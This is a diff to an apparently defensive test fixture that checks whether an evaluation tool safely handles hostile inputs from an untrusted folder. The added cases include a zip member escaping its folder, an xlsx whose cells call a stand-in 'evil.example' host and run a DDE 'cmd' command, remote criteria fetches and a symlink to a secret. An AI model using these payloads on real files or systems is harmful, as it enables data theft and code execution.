@@ -7,12 +7,15 @@ of the user's next to the stranger's.
 
 from __future__ import annotations
 
+import io
 import json
 import threading
+import zipfile
 from collections.abc import Mapping
 from dataclasses import dataclass, field
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from typing import Any, Literal, Self
+from xml.sax.saxutils import escape
 
 KEY = "sk-canary-2b7c41e95d08aa6f13"
 """What ``OPENAI_API_KEY`` holds, and every other key."""
@@ -52,6 +55,8 @@ class Hostile:
     links: Mapping[str, str] = field(default_factory=dict)
     code: int = 0
     """The exit code once the folder is trusted."""
+    packed: Mapping[str, bytes] = field(default_factory=dict)
+    """Files that are not text."""
     starts: bool = True
     """Whether the command can be run to its end here once the folder is trusted."""
 
@@ -118,6 +123,49 @@ def _reply(tokens: int) -> dict[str, Any]:
         "answer": "an answer",
         "data": [{"id": "m"}],
     }
+
+
+def _archive(members: Mapping[str, str]) -> bytes:
+    held = io.BytesIO()
+    with zipfile.ZipFile(held, "w") as archive:
+        for name, text in members.items():
+            archive.writestr(name, text)
+    return held.getvalue()
+
+
+def _workbook() -> bytes:
+    """Rows with formulas that would ask a server, or start a program."""
+    cells = ("id", "response", '=WEBSERVICE("http://evil.example/v1")', "=cmd|'/c touch canary'!A1")
+    rows = (cells[:2], ("1", cells[2]), ("2", cells[3]))
+    text = "".join("<row>" + "".join(_cell(value) for value in row) + "</row>" for row in rows)
+    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+    package = "http://schemas.openxmlformats.org/package/2006"
+    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml"
+    return _archive(
+        {
+            "[Content_Types].xml": f'<Types xmlns="{package}/content-types"><Default Extension='
+            '"rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
+            f'<Override PartName="/xl/workbook.xml" ContentType="{kind}.sheet.main+xml"/><Override '
+            f'PartName="/xl/worksheets/sheet1.xml" ContentType="{kind}.worksheet+xml"/></Types>',
+            "_rels/.rels": f'<Relationships xmlns="{package}/relationships"><Relationship Id="r1" '
+            f'Type="{office}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
+            "xl/workbook.xml": f'<workbook xmlns="{main}" xmlns:r="{office}"><sheets><sheet '
+            'name="rows" sheetId="1" r:id="r1"/></sheets></workbook>',
+            "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{package}/relationships">'
+            f'<Relationship Id="r1" Type="{office}/worksheet" Target="worksheets/sheet1.xml"/>'
+            f'<Relationship Id="r2" Type="{office}/externalLink" Target="{EVIL}" '
+            'TargetMode="External"/></Relationships>',
+            "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{main}"><sheetData>{text}</sheetData>'
+            "</worksheet>",
+        }
+    )
+
+
+def _cell(value: str) -> str:
+    if value.startswith("="):
+        return f'<c t="str"><f>{escape(value[1:])}</f><v>a formula</v></c>'
+    return f'<c t="inlineStr"><is><t>{escape(value)}</t></is></c>'
 
 
 ROWS = "id,question,response\n1,why,Because.\n2,how,Like this.\n"
@@ -790,6 +838,44 @@ HOSTILE = (
         ("import", "labels.csv", "--run", "runs/theirs"),
         expected="harmless",
         code=1,
+    ),
+    Hostile(
+        "archive that climbs out",
+        _WRITE,
+        {},
+        ("import", "log.eval", "--run", "runs/theirs"),
+        expected="harmless",
+        packed={"log.eval": _archive({"header.json": "{}", "../outside/canary": "x"})},
+        code=1,
+    ),
+    _eval(
+        "spreadsheet with formulas and a link",
+        "ask a server and start a program",
+        PLAIN.replace("rows.csv", "rows.xlsx"),
+        expected="harmless",
+        packed={"rows.xlsx": _workbook()},
+    ),
+    _eval(
+        "criteria of a repository",
+        "fetch a file of the stranger's while judging",
+        DATA + OPENAI + "judges: [{kind: direct, criteria: 'github:evil/x@1/own.yaml'}]\n",
+        expected="harmless",
+        code=1,
+    ),
+    _eval(
+        "criteria of a package that is not installed",
+        "load the stranger's module",
+        DATA + OPENAI + "judges: [{kind: direct, criteria: evil/own}]\n",
+        files={"evil.py": CANARY, "evil/own.yaml": RUBRIC},
+        expected="harmless",
+        code=1,
+    ),
+    _eval(
+        "run folder behind a link",
+        "read another run of the user's",
+        "data: theirs\n" + OPENAI + JUDGE,
+        links={"theirs/ledger.sqlite": "@OUT@/secret.txt"},
+        starts=False,
     ),
     Hostile(
         "configuration of promptfoo",
